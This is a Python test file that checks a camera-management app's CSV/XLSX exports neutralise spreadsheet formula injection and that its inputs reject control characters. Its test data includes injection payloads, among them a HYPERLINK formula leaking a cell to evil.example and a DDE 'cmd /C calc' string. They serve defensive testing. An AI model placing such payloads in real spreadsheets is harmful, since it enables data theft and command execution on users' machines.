"""Finding 5 of issue 12: exports are inert. Every CSV/XLSX text cell a spreadsheet could run
(starting with = + - @, tab or CR) is quoted as text (OWASP rule); control characters are refused
at input naming the field, and a NUL that got into the database anyway cannot break the XLSX."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.app import create_app
from camera_ops.custody.trail import trail_csv
from camera_ops.spreadsheet import neutralise, xlsx_cell
from storage.models import Camera, Donor, DonorKind, Role
from storage.models_evidence import CustodyEvent
from tests.factories import api_login, make_commune, make_user, web_login
from tests.integration.test_reports_coverage import NOV, camera, history

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, expected", [
    *[(f, "'" + f) for f in FORMULAS],
    ("Cổng thôn = lối vào", "Cổng thôn = lối vào"), ("", ""), (-3.5, -3.5), (12, 12), (None, None),
    ("'=already quoted", "'=already quoted"),
])
def test_neutralise_quotes_only_text_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected


def test_xlsx_cells_drop_characters_xlsx_cannot_hold():
    assert xlsx_cell("Cổng\x00 thôn\x1b") == "Cổng thôn"
    assert xlsx_cell("=\x00SUM(1)") == "'=SUM(1)"
    assert xlsx_cell("dòng 1\ndòng 2\ttab") == "dòng 1\ndòng 2\ttab"


@pytest.fixture
def hostile_world(session, settings):
    c = make_commune(session, prefix="FX", hamlets=1)
    donor = Donor(kind=DonorKind.business, name=FORMULAS[1], area_id=c.commune.id)
    session.add(donor)
    session.flush()
    cam = camera(session, settings, c.hamlets[0], "FX-1", donor=donor, point=FORMULAS[3])
    cam.name = FORMULAS[0]
    nul = camera(session, settings, c.hamlets[0], "FX-2", point="Chợ")
    # written behind the API's back (an old row, a direct SQL edit); PostgreSQL cannot store a NUL at all
    nul.name = "Cổng\x00chợ" if session.bind.dialect.name == "sqlite" else "Cổng\x1bchợ"
    history(session, cam, [(NOV.start, "online")])
    make_user(session, Role.manager, [c.commune], username="manager_fx")
    session.commit()
    return c


def _report(client, commune, fmt):
    headers = api_login(client, "manager_fx")
    url = f"/api/v1/reports/coverage?area_id={commune.commune.id}&period=month&year=2026&index=11&format={fmt}"
    r = client.get(url, headers=headers)
    assert r.status_code == 200, r.text
    return r.content


@pytest.mark.db
def test_coverage_csv_quotes_formula_cells(engine, settings, hostile_world):
    with TestClient(create_app(settings, engine=engine)) as client:
        rows = list(csv.reader(io.StringIO(_report(client, hostile_world, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for formula in (FORMULAS[0], FORMULAS[1], FORMULAS[3]):
        assert "'" + formula in cells
        assert formula not in cells
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)


@pytest.mark.db
def test_coverage_xlsx_has_no_formula_and_survives_a_nul(engine, settings, hostile_world):
    with TestClient(create_app(settings, engine=engine)) as client:
        book = load_workbook(io.BytesIO(_report(client, hostile_world, "xlsx")))
    values = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULAS[0] in values and "'" + FORMULAS[1] in values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    assert "Cổngchợ" in values


def test_custody_csv_quotes_formula_cells():
    event = CustodyEvent(seq=1, at=datetime(2026, 12, 1, tzinfo=timezone.utc), event_type="viewed", actor="dieutra",
                         role="officer", case=1, clip=2, purpose=FORMULAS[0], client_address="127.0.0.1",
                         details={"note": "x"}, prev_hash="0" * 64, hash="1" * 64)
    rows = list(csv.reader(io.StringIO(trail_csv([event]).decode("utf-8-sig"))))
    assert rows[1][7] == "'" + FORMULAS[0]
    assert rows[1][0] == "1" and rows[1][-1] == "1" * 64


@pytest.fixture
def world(session):
    c = make_commune(session, prefix="NU")
    make_user(session, Role.admin, username="admin")
    session.commit()
    return c


@pytest.mark.db
@pytest.mark.parametrize("field, value", [("name", "Cổng\x00thôn"), ("note", "a\x1bb"), ("address", "x\x7f"),
                                          ("install_point", "x\x85y"), ("username", "ad\x08min")])
def test_api_refuses_control_characters_naming_the_field(client, world, session, field, value):
    body = {"code": "NU-1", "name": "Cổng", "area_id": world.hamlets[0].id, "host": "192.168.1.64",
            "username": "admin", "password": "top-secret-9", "pending": True, field: value}
    r = client.post("/api/v1/cameras", content=json.dumps(body),  # ASCII escapes carry even a lone surrogate
                    headers=api_login(client, "admin") | {"Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    assert r.json()["error"]["field"] == field
    assert "ký tự điều khiển" in r.json()["error"]["message"]  # Vietnamese unless asked otherwise
    assert session.query(Camera).count() == 0


@pytest.mark.db
def test_the_refusal_is_in_english_when_asked(client, world):
    body = {"code": "NU-1", "name": "Cổng\x00", "area_id": world.hamlets[0].id, "host": "192.168.1.64",
            "username": "admin", "password": "top-secret-9", "pending": True}
    r = client.post("/api/v1/cameras", json=body, headers=api_login(client, "admin") | {"Accept-Language": "en"})
    assert r.status_code == 422 and "control character" in r.json()["error"]["message"]
    assert "U+0000" in r.json()["error"]["message"]


@pytest.mark.db
def test_csv_import_refuses_a_control_character_in_its_row(client, world, session):
    text = (f"code,name,hamlet_code,host,username,password\nOK-1,Cổng,{world.hamlets[0].code},10.0.0.1,u,p\n"
            f"BAD-1,Cổng\x00,{world.hamlets[0].code},10.0.0.2,u,p\n")
    r = client.post("/api/v1/cameras/import", headers=api_login(client, "admin"),
                    files={"file": ("c.csv", text.encode(), "text/csv")})
    assert r.status_code == 200, r.text
    bad = r.json()["rows"][1]
    assert bad["outcome"] == "error" and "name" in bad["message"] and "control character" in bad["message"]


@pytest.mark.db
def test_web_form_refuses_a_control_character(client, world, session):
    from api.deps import TOKEN_COOKIE
    from api.web.csrf import csrf_token

    web_login(client, "admin")
    token = csrf_token(client.cookies[TOKEN_COOKIE], client.app.state.settings.jwt_key)
    r = client.post("/donors", data={"csrf_token": token, "area_id": str(world.commune.id), "kind": "household",
                                     "name": "Nhà\x00 ông A"})
    assert r.status_code == 422
    assert session.query(Donor).count() == 0
